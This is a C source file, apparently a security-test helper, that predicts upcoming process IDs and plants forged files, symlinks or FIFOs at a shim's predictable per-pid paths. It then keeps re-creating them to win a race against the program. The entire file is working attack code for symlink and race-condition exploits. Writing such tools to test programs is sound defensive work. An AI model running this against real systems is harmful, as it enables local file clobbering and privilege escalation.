/* Run as an unprivileged user: plants entries at the shim's shared per-pid paths for the next
 * COUNT pids (after /proc/sys/kernel/ns_last_pid), then, for SECONDS, keeps re-creating any
 * of them that disappears (as an attacker racing the program would). KIND is one of
 *   file     a regular file, mode 0666, with the contents of CRAFTED (a forged exec state)
 *   symlink  a symlink to TARGET
 *   fifo     a FIFO, mode 0666
 * Each TEMPLATE is a printf pattern with one %d for the pid. Existing entries are left
 * alone. Prints the first pid, every path created (one per line), then "ready".
 * usage: plant KIND COUNT SECONDS TARGET CRAFTED TEMPLATE... */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *kind, *target;
static char crafted[65536];
static ssize_t clen;

static long read_long(const char *path) {
    FILE *f = fopen(path, "r");
    long v = -1;
    if (f) {
        if (fscanf(f, "%ld", &v) != 1)
            v = -1;
        fclose(f);
    }
    return v;
}

static int make(const char *path) {
    if (strcmp(kind, "file") == 0) {
        int fd = open(path, O_CREAT | O_EXCL | O_WRONLY, 0666);
        if (fd < 0)
            return 0;
        int ok = write(fd, crafted, (size_t)clen) == clen;
        close(fd);
        if (!ok)
            unlink(path);
        return ok;
    }
    if (strcmp(kind, "symlink") == 0)
        return symlink(target, path) == 0;
    if (strcmp(kind, "fifo") == 0)
        return mkfifo(path, 0666) == 0;
    return 0;
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc < 7)
        return 2;
    kind = argv[1];
    int count = atoi(argv[2]);
    double secs = atof(argv[3]);
    target = argv[4];
    int cf = open(argv[5], O_RDONLY);
    if (cf >= 0) {
        clen = read(cf, crafted, sizeof crafted);
        close(cf);
    }
    if (clen < 0)
        clen = 0;
    long last = read_long("/proc/sys/kernel/ns_last_pid");
    long max = read_long("/proc/sys/kernel/pid_max");
    if (last < 0 || max < 0)
        return 3;
    int templates = argc - 6;
    char **made = calloc((size_t)count * (size_t)templates, sizeof *made);
    int n = 0;
    printf("%ld\n", last + 1);
    umask(0);
    for (int i = 1; i <= count; i++) {
        long pid = last + i;
        if (pid >= max)
            pid = 300 + (pid - max);
        for (int t = 6; t < argc; t++) {
            char path[4096];
            snprintf(path, sizeof path, argv[t], (int)pid);
            if (make(path)) {
                printf("%s\n", path);
                made[n++] = strdup(path);
            }
        }
    }
    printf("ready\n");
    fflush(stdout);
    double end = now() + secs;
    while (now() < end) {
        for (int i = 0; i < n; i++) {
            struct stat st;
            if (lstat(made[i], &st) != 0)
                make(made[i]);
        }
        usleep(500);
    }
    return 0;
}
